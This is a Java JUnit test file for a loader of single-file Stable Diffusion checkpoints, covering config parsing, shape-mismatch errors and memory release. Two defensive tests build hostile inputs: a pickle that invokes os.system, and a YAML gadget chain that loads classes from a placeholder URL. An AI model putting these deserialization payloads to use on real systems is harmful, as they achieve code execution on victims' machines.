package io.github.ssrencoder.model;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import ai.djl.Device;
import ai.djl.ndarray.NDArray;
import ai.djl.ndarray.NDManager;
import com.google.gson.JsonObject;
import io.github.ssrencoder.io.JsonFiles;
import io.github.ssrencoder.io.LdmConfig;
import io.github.ssrencoder.io.SafetensorsFile;
import io.github.ssrencoder.io.SingleFileCheckpoint;
import io.github.ssrencoder.io.TensorInfo;
import io.github.ssrencoder.io.TensorSource;
import io.github.ssrencoder.io.WeightFileException;
import io.github.ssrencoder.io.WeightFiles;
import io.github.ssrencoder.nn.EngineRuntime;
import io.github.ssrencoder.testing.FileErrors;
import io.github.ssrencoder.testing.Golden;
import io.github.ssrencoder.testing.SafetensorsWriter;
import io.github.ssrencoder.testing.TorchZipWriter;
import io.github.ssrencoder.testing.TorchZipWriter.Pickle;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Map;
import java.util.Set;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The architecture of a single-file checkpoint (its yaml, or the standard SD1.x config) and what happens when
 * the file does not fit it: a one-line error naming the file, and no weights left in memory.
 */
class SingleFileModelsTest {

    @TempDir
    Path dir;

    private NDManager weights;

    @BeforeEach
    void manager() {
        EngineRuntime.configureOffline(0);
        weights = EngineRuntime.newManager(Device.cpu());
    }

    @AfterEach
    void release() {
        weights.close();
    }

    private static Path file(String name) {
        return Golden.tinyA().resolve("single-file").resolve(name);
    }

    private static Path textConfig() {
        return Golden.tinyA().resolve("sd/text_encoder/config.json");
    }

    private long liveArrays() {
        return weights.getManagedArrays().stream().filter(a -> !a.isReleased()).count();
    }

    /** A diffusers config file without {@code sample_size}, which the LDM yaml does not carry (and nothing uses). */
    private static JsonObject withoutSampleSize(Path config) {
        JsonObject o = JsonFiles.readObject(config);
        o.remove("sample_size");
        return o;
    }

    @Test
    void tinyYamlGivesTheConfigsOfTheDiffusersFolder() {
        LdmConfig ldm = LdmConfig.read(file("model.yaml"));
        Path unet = Golden.tinyA().resolve("sd/unet/config.json");
        Path vae = Golden.tinyA().resolve("sd/vae/config.json");
        assertEquals(UNetConfig.fromJson(unet, withoutSampleSize(unet)), UNetConfig.fromJson(ldm.source(), ldm.unetConfig()));
        assertEquals(VaeConfig.fromJson(vae, withoutSampleSize(vae)), VaeConfig.fromJson(ldm.source(), ldm.vaeConfig()));
        assertEquals(0.00085, ldm.linearStart());
        assertEquals(0.012, ldm.linearEnd());
        assertEquals("epsilon", ldm.predictionType());
    }

    @Test
    void standardConfigIsStableDiffusion15() {
        LdmConfig ldm = LdmConfig.standardSd1();
        assertTrue(ldm.file().isEmpty());
        JsonObject unet = Golden.json(Golden.fullSizeKeys("sd15_unet.json")).getAsJsonObject().getAsJsonObject("config");
        JsonObject vae = Golden.json(Golden.fullSizeKeys("sd15_vae.json")).getAsJsonObject().getAsJsonObject("config");
        unet.remove("sample_size");
        vae.remove("sample_size");
        assertEquals(UNetConfig.fromJson(Path.of("sd15_unet.json"), unet), UNetConfig.fromJson(ldm.source(), ldm.unetConfig()));
        assertEquals(VaeConfig.fromJson(Path.of("sd15_vae.json"), vae), VaeConfig.fromJson(ldm.source(), ldm.vaeConfig()));
        assertEquals(32, UNetConfig.fromJson(ldm.source(), ldm.unetConfig()).normNumGroups(), "LDM's GroupNorm32");
    }

    @Test
    void checkpointWithoutYamlUsesTheStandardConfigAndIsRefusedNamingTheFirstKey() throws IOException {
        Path alone = Files.copy(file("model.fp16.safetensors"), dir.resolve("alone.safetensors"));
        long before = liveArrays();
        WeightFileException e = FileErrors.assertFileError(alone, () -> SingleFileModels.load(alone, textConfig(), false, weights));
        FileErrors.assertMentions(e, "does not fit the UNet of the standard SD1.x config",
                "model.diffusion_model.input_blocks.0.0.weight (expected [320, 4, 3, 3], found [32, 4, 3, 3])");
        assertEquals(before, liveArrays(), "nothing loaded");
    }

    @Test
    void yamlContradictingTheTensorsIsRefusedNamingKeyAndShapes() throws IOException {
        Path ckpt = Files.copy(file("model.fp16.safetensors"), dir.resolve("wrong.safetensors"));
        Files.writeString(dir.resolve("wrong.yaml"), Files.readString(file("model.fp16.yaml"))
                .replace("model_channels: 16", "model_channels: 8").replace("ch: 16", "ch: 8"));
        long before = liveArrays();
        WeightFileException e = FileErrors.assertFileError(ckpt, () -> SingleFileModels.load(ckpt, textConfig(), false, weights));
        FileErrors.assertMentions(e, "does not fit the UNet of " + dir.resolve("wrong.yaml"),
                "wrong shape for model.diffusion_model.input_blocks.0.0.bias (expected [16], found [32])",
                "model.diffusion_model.input_blocks.0.0.weight (expected [16, 4, 3, 3], found [32, 4, 3, 3])");
        assertEquals(before, liveArrays(), "nothing loaded");
    }

    @Test
    void hostileCheckpointIsRefusedWithoutRunningAnything() {
        Path marker = dir.resolve("executed");
        byte[] pkl = new Pickle().proto2().op('}').op('(').string("state_dict")
                .global("collections", "OrderedDict").op(')').op('R').op('(')
                .string("model.diffusion_model.input_blocks.0.0.weight").global("os", "system").string("touch " + marker)
                .op(0x85).op('R').op('u').op('u').op('.').bytes();
        Path ckpt = TorchZipWriter.writeZip(dir.resolve("evil.ckpt"), pkl, Map.of());
        long before = liveArrays();
        WeightFileException e = FileErrors.assertFileError(ckpt, () -> SingleFileModels.load(ckpt, textConfig(), false, weights));
        FileErrors.assertMentions(e, "refusing global 'os.system'", "'model.diffusion_model.input_blocks.0.0.weight'");
        assertFalse(Files.exists(marker), "the pickled command must not run");
        assertEquals(before, liveArrays());
    }

    @Test
    void failureWhileReadingReleasesWhatWasAlreadyLoaded() {
        String last = "cond_stage_model.transformer.text_model.final_layer_norm.bias";
        TensorSource failing = new FailingSource(WeightFiles.open(file("model.fp16.safetensors")), last);
        long before = liveArrays();
        try (SingleFileCheckpoint ckpt = SingleFileCheckpoint.of(failing, LdmConfig.read(file("model.fp16.yaml")))) {
            WeightFileException e = assertThrows(WeightFileException.class,
                    () -> SingleFileModels.load(ckpt, ClipTextConfig.read(textConfig()), false, weights));
            assertTrue(e.getMessage().contains("disk error reading " + last), e.getMessage());
        }
        assertEquals(before, liveArrays(), "UNet and VAE weights read before the failure are released");
        SingleFileModels ok = SingleFileModels.load(file("model.fp16.safetensors"), textConfig(), false, weights);
        assertTrue(liveArrays() > before + 900, "the count sees loaded weights: " + liveArrays());
        assertEquals(8, ok.vae().config().normNumGroups());
    }

    @Test
    void bfloat16CheckpointLoadsItsValuesWidened() throws IOException {
        Path bf16 = dir.resolve("model.bf16.safetensors");
        String key = "first_stage_model.decoder.mid.attn_1.proj_out.weight";
        float[] expected = null;
        SafetensorsWriter writer = new SafetensorsWriter();
        try (SafetensorsFile f16 = SafetensorsFile.open(file("model.fp16.safetensors")); NDManager m = weights.newSubManager()) {
            for (String k : f16.keys()) {
                NDArray a = f16.load(k, m);
                long[] shape = a.getShape().getShape();
                if (f16.info(k).dtype() == io.github.ssrencoder.io.DType.I64) {
                    writer.addI64(k, shape, a.toLongArray());
                    continue;
                }
                float[] v = a.toFloatArray();
                int[] bits = new int[v.length];
                for (int i = 0; i < v.length; i++) {
                    bits[i] = Float.floatToRawIntBits(v[i]) >>> 16;
                    v[i] = Float.intBitsToFloat(bits[i] << 16);
                }
                writer.addShorts(k, "BF16", shape, bits);
                if (k.equals(key)) {
                    expected = v;
                }
            }
        }
        writer.write(bf16);
        Files.copy(file("model.fp16.yaml"), dir.resolve("model.bf16.yaml"));
        SingleFileModels models = SingleFileModels.load(bf16, textConfig(), false, weights);
        NDArray loaded = models.vae().namedParameters().get("decoder.mid_block.attentions.0.to_out.0.weight").get();
        assertEquals(2, loaded.getShape().dimension());
        org.junit.jupiter.api.Assertions.assertArrayEquals(expected, loaded.toFloatArray());
    }

    @Test
    void yamlWithObjectTagsIsRefused() throws IOException {
        Path yaml = Files.writeString(dir.resolve("evil.yaml"),
                "model: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x/\"]]]]\n");
        WeightFileException e = FileErrors.assertFileError(yaml, () -> LdmConfig.read(yaml));
        FileErrors.assertMentions(e, "not a readable yaml file");
    }

    @Test
    void yamlOfAnotherLayoutIsRefusedNamingTheEntry() throws IOException {
        Path yaml = Files.writeString(dir.resolve("other.yaml"), "model:\n  params:\n    unet_config: {}\n");
        FileErrors.assertMentions(FileErrors.assertFileError(yaml, () -> LdmConfig.read(yaml)),
                "model.params.unet_config.params is missing");
        Path sd2 = Files.writeString(dir.resolve("sd2.yaml"), Files.readString(file("model.yaml"))
                .replace("ldm.modules.encoders.modules.FrozenCLIPEmbedder", "ldm.modules.encoders.modules.FrozenOpenCLIPEmbedder"));
        FileErrors.assertMentions(FileErrors.assertFileError(sd2, () -> LdmConfig.read(sd2)),
                "only Stable Diffusion 1.x checkpoints");
    }

    /** Fails when one key is read, as a disk error would. */
    private record FailingSource(TensorSource base, String failingKey) implements TensorSource {
        @Override
        public Path file() {
            return base.file();
        }

        @Override
        public Set<String> keys() {
            return base.keys();
        }

        @Override
        public TensorInfo info(String key) {
            return base.info(key);
        }

        @Override
        public NDArray load(String key, NDManager manager) {
            if (key.equals(failingKey)) {
                throw WeightFileException.of(file(), "disk error reading " + key);
            }
            return base.load(key, manager);
        }

        @Override
        public byte[] readBytes(String key) {
            return base.readBytes(key);
        }

        @Override
        public void close() {
            base.close();
        }
    }
}
